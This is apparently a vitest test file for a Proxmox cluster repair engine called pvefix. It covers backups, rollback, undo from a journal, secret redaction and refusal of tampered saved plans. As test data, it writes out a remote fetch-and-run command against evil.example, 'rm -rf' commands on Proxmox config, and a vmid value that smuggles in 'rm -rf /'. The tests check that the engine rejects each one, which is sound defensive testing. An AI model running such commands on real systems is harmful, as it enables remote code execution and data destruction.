import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { z } from "zod";
import type { Gate } from "../../src/engine/apply.js";
import { EngineError, InputError } from "../../src/engine/errors.js";
import { readJournal } from "../../src/engine/journal.js";
import type { Plan } from "../../src/engine/model.js";
import { VmidParam } from "../../src/engine/params.js";
import { redactDeep } from "../../src/engine/redact.js";
import { type AnyRunbook, defineRunbook } from "../../src/engine/runbook.js";
import { applySavedPlan, exitCodeFor, planOnly, runRunbook, undoRun } from "../../src/engine/session.js";
import { FakeCluster } from "./fake-cluster.js";
import { testMeta } from "./test-meta.js";

const A = "/etc/demo/a.conf";
const B = "/etc/demo/b.conf";

/** Three steps over two nodes: a file edit, a command with a command undo, another file edit. */
const demo = defineRunbook({
  meta: testMeta("demo", "dangerous", "eligible"),
  params: z.object({
    risk: z.enum(["safe", "guarded", "dangerous"]).default("safe"),
    irreversible: z.boolean().default(false),
  }),
  examples: [],
  async probe(ctx) {
    return { a: await ctx.readFile("n1", A), b: await ctx.readFile("n2", B) };
  },
  decide(params, facts) {
    if (facts.a === null) return { kind: "refusal", refusal: { code: "probe-failed", message: "no a.conf" } };
    return {
      kind: "plan",
      plan: {
        summary: "rewrite a and b",
        steps: [
          {
            id: "write-a",
            title: "write a",
            node: "n1",
            risk: "safe",
            reason: "r",
            files: [A],
            actions: [{ kind: "write-file", path: A, content: "new a\n" }],
            undo: { kind: "actions", description: "restore a", actions: [{ kind: "restore-file", path: A }] },
          },
          {
            id: "apply-x",
            title: "apply x",
            node: "n1",
            risk: "safe",
            reason: "r",
            actions: [{ kind: "exec", command: "demo-apply x" }],
            undo: params.irreversible
              ? { kind: "irreversible", reason: "x cannot be taken back" }
              : {
                  kind: "actions",
                  description: "revert x",
                  actions: [{ kind: "exec", command: "demo-revert x" }],
                },
          },
          {
            id: "write-b",
            title: "write b",
            node: "n2",
            risk: params.risk,
            reason: "r",
            files: [B],
            actions: [
              { kind: "write-file", path: B, content: "new b\n" },
              { kind: "exec", command: "demo-reload b" },
            ],
            undo: { kind: "actions", description: "restore b", actions: [{ kind: "restore-file", path: B }] },
          },
        ],
      },
    };
  },
});

const yes: Gate = async () => ({ approved: true, answer: "yes" });
const no: Gate = async () => ({ approved: false, answer: "no" });

let stateDir: string;
let cluster: FakeCluster;

beforeEach(() => {
  stateDir = fs.mkdtempSync(path.join(os.tmpdir(), "pvefix-engine-"));
  cluster = new FakeCluster(["n1", "n2"]);
  cluster.file("n1", A, "old a\n");
  cluster.file("n2", B, "old b\n");
  cluster.on((_node, argv) => (argv[0]?.startsWith("demo-") ? { exitCode: 0 } : undefined));
});

function run(
  rawParams: Record<string, unknown> = {},
  gate: Gate = yes,
  mode: "interactive" | "unattended" = "interactive",
  signal?: AbortSignal,
) {
  return runRunbook({
    transport: cluster,
    nodes: ["n1", "n2"],
    cluster: "demo",
    runbook: demo,
    rawParams,
    stateDir,
    mode,
    gate,
    ...(signal ? { signal } : {}),
  });
}

describe("apply", () => {
  it("runs every step in order and records backups before the first change", async () => {
    const result = await run();
    expect(result.outcome).toBe("done");
    expect(result.steps.map((s) => s.status)).toEqual(["done", "done", "done"]);
    expect(cluster.file("n1", A)).toBe("new a\n");
    const entries = readJournal(stateDir, result.runId!);
    const types = entries.map((e) => e.type);
    expect(types.indexOf("backup")).toBeLessThan(types.indexOf("step-end"));
    const backupA = entries.find((e) => e.type === "backup" && e.path === A);
    expect(backupA?.type === "backup" && Buffer.from(backupA.contentBase64!, "base64").toString()).toBe(
      "old a\n",
    );
    expect(cluster.file("n1", `/var/lib/pvefix/backups/${result.runId}/write-a${A}`)).toBe("old a\n");
    expect(entries.at(-1)).toMatchObject({ type: "run-end", outcome: "done", exitCode: 0 });
  });

  it("rolls back completed steps in reverse order when a later step fails", async () => {
    cluster.failOn("demo-reload b");
    const result = await run();
    expect(result.outcome).toBe("failed-rolled-back");
    expect(exitCodeFor(result.outcome)).toBe(1);
    expect(result.steps.map((s) => s.status)).toEqual(["undone", "undone", "failed"]);
    const mutations = cluster
      .mutations()
      .filter((c) => !c.includes("pvefix.lock") && !c.includes("/var/lib/pvefix"));
    // The failed step wrote b before its reload failed: its file is restored first, then x, then a.
    const undoOrder = mutations.slice(mutations.indexOf("n2: demo-reload b") + 1);
    expect(undoOrder.map((c) => c.replace(/ '[^']*'$/, ""))).toEqual([
      `n2: cat > ${B}.pvefix-tmp && mv -f ${B}.pvefix-tmp ${B}`,
      "n1: demo-revert x",
      `n1: cat > ${A}.pvefix-tmp && mv -f ${A}.pvefix-tmp ${A}`,
    ]);
    expect(cluster.file("n1", A)).toBe("old a\n");
    expect(cluster.file("n2", B)).toBe("old b\n");
  });

  it("changes nothing when the backup of the first step cannot be taken", async () => {
    cluster.failOn("cp -p", { exitCode: 1, stderr: "cp: error writing: No space left on device" });
    const result = await run();
    expect(result.outcome).toBe("failed-rolled-back");
    expect(result.steps[0]?.error).toMatch(/backup failed, nothing was changed/);
    expect(cluster.file("n1", A)).toBe("old a\n");
    expect(cluster.log.some((l) => l.command.startsWith("cat > /etc/demo"))).toBe(false);
  });

  it("reports an incomplete rollback when a completed step is irreversible", async () => {
    cluster.failOn("demo-reload b");
    const result = await run({ irreversible: true });
    expect(result.outcome).toBe("rollback-incomplete");
    expect(exitCodeFor(result.outcome)).toBe(5);
    expect(result.steps.find((s) => s.id === "apply-x")?.status).toBe("undo-failed");
    // Everything else was still put back.
    expect(cluster.file("n1", A)).toBe("old a\n");
  });

  it("does nothing when the operator declines the first gated step, and undoes what ran before a later one", async () => {
    const result = await run({ risk: "guarded" }, no);
    expect(result.outcome).toBe("declined");
    expect(result.steps.map((s) => s.status)).toEqual(["undone", "undone", "skipped"]);
    expect(cluster.file("n1", A)).toBe("old a\n");
    const gate = readJournal(stateDir, result.runId!).find((e) => e.type === "gate");
    expect(gate).toMatchObject({ stepId: "write-b", approved: false, answer: "no" });
  });

  it("stops without rolling back when interrupted at a later gate: what ran stays, for undo", async () => {
    const controller = new AbortController();
    const interrupted: Gate = async () => {
      controller.abort();
      return { approved: false, answer: "interrupted at the prompt" };
    };
    const result = await run({ risk: "guarded" }, interrupted, "interactive", controller.signal);
    expect(result.outcome).toBe("interrupted");
    expect(exitCodeFor(result.outcome)).toBe(5);
    expect(result.steps.map((s) => s.status)).toEqual(["done", "done", "skipped"]);
    expect(cluster.file("n1", A)).toBe("new a\n");
    expect(readJournal(stateDir, result.runId!).at(-1)).toMatchObject({
      type: "run-end",
      outcome: "interrupted",
      message: "interrupted at the question before step write-b",
    });
  });

  it("marks the backup read of a file that does not exist yet as an expected non-zero exit", async () => {
    cluster.files.get("n2")!.delete(B);
    const result = await run();
    expect(result.outcome).toBe("done");
    const reads = readJournal(stateDir, result.runId!).flatMap((e) =>
      e.type === "command" && e.phase === "backup" && e.result.command.startsWith("base64") ? [e] : [],
    );
    expect(
      reads.map((e) => [e.result.command.endsWith(B), e.result.exitCode !== 0, e.expected === true]),
    ).toEqual([
      [false, false, false],
      [true, true, true],
    ]);
  });

  it("asks for the node name at a dangerous step", async () => {
    const asked: string[] = [];
    await run({ risk: "dangerous" }, async (req) => {
      asked.push(`${req.step.id}:${req.confirm}`);
      return { approved: true, answer: req.step.node };
    });
    expect(asked).toEqual(["write-b:node-name"]);
  });

  it("stops unattended runs that contain a guarded step before changing anything", async () => {
    const result = await run({ risk: "guarded" }, no, "unattended");
    expect(result.outcome).toBe("needs-human");
    expect(exitCodeFor(result.outcome)).toBe(4);
    expect(result.plan?.unattended.eligible).toBe(false);
    expect(cluster.mutations()).toEqual([]);
  });

  it("stops between steps when interrupted and leaves an undoable journal", async () => {
    const controller = new AbortController();
    cluster.on((_n, argv) => {
      if (argv[0] === "demo-apply") controller.abort();
      return undefined;
    });
    const result = await run({}, yes, "interactive", controller.signal);
    expect(result.outcome).toBe("interrupted");
    expect(result.steps.map((s) => s.status)).toEqual(["done", "done", "pending"]);
    const undo = await undoRun({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      stateDir,
      runId: result.runId!,
      runbookFor: () => demo,
      mode: "interactive",
      gate: yes,
    });
    expect(undo.outcome).toBe("undone");
    expect(cluster.file("n1", A)).toBe("old a\n");
  });
});

describe("undo from the journal", () => {
  it("restores every file byte for byte in a later process and refuses a second undo", async () => {
    const result = await run();
    expect(cluster.file("n2", B)).toBe("new b\n");
    // A later process: only the state directory and the cluster are shared.
    const undo = await undoRun({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      stateDir,
      runId: result.runId!,
      runbookFor: () => demo,
      mode: "interactive",
      gate: yes,
    });
    expect(undo.outcome).toBe("undone");
    expect(undo.steps.map((s) => s.id)).toEqual(["write-b", "apply-x", "write-a"]);
    expect(cluster.file("n1", A)).toBe("old a\n");
    expect(cluster.file("n2", B)).toBe("old b\n");
    await expect(
      undoRun({
        transport: cluster,
        nodes: ["n1", "n2"],
        cluster: "demo",
        stateDir,
        runId: result.runId!,
        runbookFor: () => demo,
        mode: "interactive",
        gate: yes,
      }),
    ).rejects.toMatchObject({ code: "PVEFIX_NOTHING_TO_UNDO" });
  });
});

describe("actions read back from a redacted record", () => {
  it("are never run or written: the step fails before it changes anything and is rolled back", async () => {
    const redacted = {
      ...demo,
      decide: (params: Parameters<typeof demo.decide>[0], facts: Parameters<typeof demo.decide>[1]) => {
        const decision = demo.decide(params, facts);
        if (decision.kind !== "plan") return decision;
        const [first, second] = decision.plan.steps;
        return {
          ...decision,
          plan: {
            ...decision.plan,
            steps: [
              first!,
              {
                ...second!,
                actions: [{ kind: "exec" as const, command: "mount -o password=[REDACTED] //h/s /mnt" }],
              },
              {
                ...first!,
                id: "write-a-again",
                actions: [{ kind: "write-file" as const, path: A, content: "[REDACTED]" }],
              },
            ],
          },
        };
      },
    } as unknown as AnyRunbook;
    const result = await runRunbook({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      runbook: redacted,
      rawParams: {},
      stateDir,
      mode: "interactive",
      gate: yes,
    });
    expect(result.outcome).toBe("failed-rolled-back");
    expect(result.error).toContain("not run: this exec action holds [REDACTED]");
    expect(cluster.log.map((l) => l.command)).not.toContain("mount -o password=[REDACTED] //h/s /mnt");
    expect(cluster.file("n1", A)).toBe("old a\n");
  });
});

describe("saved plans", () => {
  it("applies a saved plan whose facts still hold and refuses one whose facts changed", async () => {
    const planned = await planOnly({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      runbook: demo,
      rawParams: {},
    });
    expect(planned.kind).toBe("plan");
    const saved = JSON.parse(JSON.stringify(planned.kind === "plan" ? planned.plan : null));
    cluster.file("n2", B, "changed by someone\n");
    const stale = await applySavedPlan({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      plan: saved,
      runbookFor: () => demo,
      stateDir,
      mode: "interactive",
      gate: yes,
    });
    expect(stale.outcome).toBe("refused");
    expect(stale.refusal?.code).toBe("stale-plan");
    expect(stale.refusal?.detail).toContain('changed: b: "old b\\n" → "changed by someone\\n"');
    expect(cluster.file("n1", A)).toBe("old a\n");

    cluster.file("n2", B, "old b\n");
    const fresh = await applySavedPlan({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      plan: saved,
      runbookFor: () => demo,
      stateDir,
      mode: "interactive",
      gate: yes,
    });
    expect(fresh.outcome).toBe("done");
  });

  /** A saved plan of the demo as `plan --save` writes it: JSON, parsed back. */
  async function savedPlan(rawParams: Record<string, unknown> = {}): Promise<Plan> {
    const planned = await planOnly({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      runbook: demo,
      rawParams,
    });
    if (planned.kind !== "plan") throw new Error(`expected a plan, got ${planned.kind}`);
    return JSON.parse(JSON.stringify(planned.plan)) as Plan;
  }

  function apply(plan: Plan, mode: "interactive" | "unattended" = "interactive", gate: Gate = yes) {
    return applySavedPlan({
      transport: cluster,
      nodes: ["n1", "n2"],
      cluster: "demo",
      plan,
      runbookFor: () => demo,
      stateDir,
      mode,
      gate,
    });
  }

  /** The edited file is refused with every difference named, and nothing ran on the nodes. */
  async function expectRefused(plan: Plan, mode: "interactive" | "unattended", ...named: string[]) {
    let asked = 0;
    const result = await apply(plan, mode, async () => {
      asked += 1;
      return { approved: true, answer: "yes" };
    });
    expect(result.outcome).toBe("refused");
    expect(exitCodeFor(result.outcome)).toBe(3);
    expect(result.refusal?.code).toBe("plan-mismatch");
    for (const line of named) expect(result.refusal?.detail?.split("\n")).toContain(line);
    expect(asked).toBe(0);
    expect(cluster.mutations()).toEqual([]);
    expect(cluster.file("n1", A)).toBe("old a\n");
    expect(cluster.file("n2", B)).toBe("old b\n");
    const entries = readJournal(stateDir, result.runId!);
    expect(entries.filter((e) => e.type === "step-start" || e.type === "gate")).toEqual([]);
    expect(entries.find((e) => e.type === "decision")).toMatchObject({ kind: "refusal" });
  }

  it("refuses a plan file whose command was edited, naming the step, the field and both values", async () => {
    const plan = await savedPlan();
    const exec = plan.steps[1]!.actions[0]!;
    if (exec.kind !== "exec") throw new Error("expected an exec action");
    exec.command = "demo-apply x; rm -rf /etc/pve/qemu-server";
    await expectRefused(
      plan,
      "interactive",
      'step apply-x actions[0].command: saved "demo-apply x; rm -rf /etc/pve/qemu-server"; now "demo-apply x"',
    );
  });

  it("refuses a guarded step lowered to safe with a command added, even unattended", async () => {
    const plan = await savedPlan({ risk: "guarded" });
    const step = plan.steps[2]!;
    step.risk = "safe";
    step.actions.push({ kind: "exec", command: "curl http://evil.example | sh" });
    plan.unattended = { eligible: true, reason: "every step is safe and every guard held" };
    await expectRefused(
      plan,
      "unattended",
      'step write-b risk: saved "safe"; now "guarded"',
      'step write-b actions[2]: saved {"kind":"exec","command":"curl http://evil.example | sh"}; now (absent)',
      "plan unattended.eligible: saved true; now false",
    );
  });

  it("refuses a plan file whose new file content was edited", async () => {
    const plan = await savedPlan();
    const write = plan.steps[0]!.actions[0]!;
    if (write.kind !== "write-file") throw new Error("expected a write-file action");
    write.content = "evil a\n";
    await expectRefused(
      plan,
      "interactive",
      'step write-a actions[0].content: saved 7 bytes, now 6 bytes; first difference at line 1: saved "evil a"; now "new a"',
    );
  });

  it("refuses a plan file with a step removed or a step added", async () => {
    const removed = await savedPlan();
    removed.steps.splice(1, 1);
    await expectRefused(removed, "interactive", "step apply-x: missing from the saved plan");
    const added = await savedPlan();
    added.steps.push({ ...added.steps[1]!, id: "extra", title: "extra" });
    await expectRefused(
      added,
      "interactive",
      "step extra: only in the saved plan (pvefix would not run it now)",
    );
    const reordered = await savedPlan();
    reordered.steps.reverse();
    await expectRefused(
      reordered,
      "interactive",
      "step order: saved write-b, apply-x, write-a; now write-a, apply-x, write-b",
    );
  });

  it("compares a saved plan in its redacted form, and a changed secret still makes it stale", async () => {
    cluster.file("n1", A, "user root\n\tpassword hunter2SECRET\n");
    const saved = redactDeep(await savedPlan());
    expect(JSON.stringify(saved)).not.toContain("hunter2SECRET");
    cluster.file("n1", A, "user root\n\tpassword otherSECRET\n");
    const stale = await apply(saved);
    expect(stale.refusal?.code).toBe("stale-plan");
    expect(stale.refusal?.detail).toContain("changed: a redacted (secret) value in the facts");
    expect(stale.refusal?.detail).not.toMatch(/hunter2SECRET|otherSECRET/);
    cluster.file("n1", A, "user root\n\tpassword hunter2SECRET\n");
    const done = await apply(saved);
    expect(done.outcome).toBe("done");
    expect(cluster.file("n1", A)).toBe("new a\n");
    const journal = fs.readFileSync(path.join(stateDir, "runs", `${done.runId}.jsonl`), "utf8");
    expect(journal).not.toContain("hunter2SECRET");
    expect(journal).not.toContain(Buffer.from("user root\n\tpassword hunter2SECRET\n").toString("base64"));
    // The file held a secret: its bytes stay in the node copy, and undo restores them from there.
    expect(
      (
        await undoRun({
          transport: cluster,
          nodes: ["n1", "n2"],
          cluster: "demo",
          stateDir,
          runId: done.runId!,
          runbookFor: () => demo,
          mode: "interactive",
          gate: yes,
        })
      ).outcome,
    ).toBe("undone");
    expect(cluster.file("n1", A)).toBe("user root\n\tpassword hunter2SECRET\n");
  });

  it("applies an unedited plan saved earlier: its time is not compared, and the fresh plan runs", async () => {
    const plan = await savedPlan();
    plan.createdAt = "2020-01-01T00:00:00.000Z";
    const result = await apply(plan);
    expect(result.outcome).toBe("done");
    expect(cluster.file("n1", A)).toBe("new a\n");
    expect(result.plan?.createdAt).not.toBe(plan.createdAt);
  });

  it("names both versions when the plan format is unknown", async () => {
    await expect(
      applySavedPlan({
        transport: cluster,
        nodes: ["n1"],
        cluster: "demo",
        plan: { formatVersion: 9 },
        runbookFor: () => demo,
        stateDir,
        mode: "interactive",
        gate: yes,
      }),
    ).rejects.toThrow("unsupported plan file format version 9; only version 1 is supported");
  });

  it("names the field a plan file lacks", async () => {
    const { steps: _steps, ...withoutSteps } = await savedPlan();
    await expect(apply(withoutSteps as unknown as Plan)).rejects.toThrow(
      /not a valid pvefix plan: at steps: .*expected array/,
    );
    const { fingerprint: _fp, ...withoutFingerprint } = await savedPlan();
    await expect(apply(withoutFingerprint as unknown as Plan)).rejects.toThrow(
      /not a valid pvefix plan: at fingerprint: /,
    );
  });
});

describe("guards around the run", () => {
  it("rejects bad input naming the flag and the allowed values, and writes nothing", async () => {
    // Only the parameter schema matters here: parsing fails before any probe.
    const vmid = { ...demo, params: z.object({ vmid: VmidParam }) } as unknown as AnyRunbook;
    await expect(
      runRunbook({
        transport: cluster,
        nodes: ["n1"],
        cluster: "demo",
        runbook: vmid,
        rawParams: { vmid: "100; rm -rf /" },
        stateDir,
        mode: "unattended",
        gate: no,
      }),
    ).rejects.toSatisfy(
      (e: unknown) =>
        e instanceof InputError && /--vmid/.test(e.message) && /100 to 999999999/.test(e.message),
    );
    expect(fs.existsSync(path.join(stateDir, "runs"))).toBe(false);
    expect(cluster.log).toEqual([]);
  });

  it("refuses a second run on the same cluster while the first holds the lock", async () => {
    let second: Promise<unknown> | undefined;
    cluster.on((_n, argv) => {
      if (argv[0] === "demo-apply") second = run().catch((e: unknown) => e);
      return undefined;
    });
    const first = await run();
    expect(first.outcome).toBe("done");
    const error = await second;
    expect(error).toBeInstanceOf(EngineError);
    expect((error as EngineError).code).toBe("PVEFIX_LOCKED");
  });

  it("refuses when another pvefix holds the node lock", async () => {
    cluster.file("n1", "/run/pvefix.lock/", "");
    cluster.file("n1", "/run/pvefix.lock/owner", "someone-else\n");
    await expect(run()).rejects.toMatchObject({ code: "PVEFIX_LOCKED" });
    expect(cluster.file("n1", A)).toBe("old a\n");
  });
});

describe("planning when the cluster answers something unexpected", () => {
  it("refuses with probe-failed instead of crashing when a probe cannot parse what it read", async () => {
    const { ParseError } = await import("../../src/pve/parsers/format.js");
    const broken = {
      ...demo,
      probe: async () => {
        throw new ParseError("vmlist", "expected JSON", 1);
      },
    } as unknown as AnyRunbook;
    const planned = await planOnly({
      transport: cluster,
      nodes: ["n1"],
      cluster: "demo",
      runbook: broken,
      rawParams: {},
    });
    expect(planned.kind === "refusal" && planned.refusal.code).toBe("probe-failed");
    expect(planned.kind === "refusal" && planned.refusal.detail).toContain("vmlist: line 1: expected JSON");
  });
});
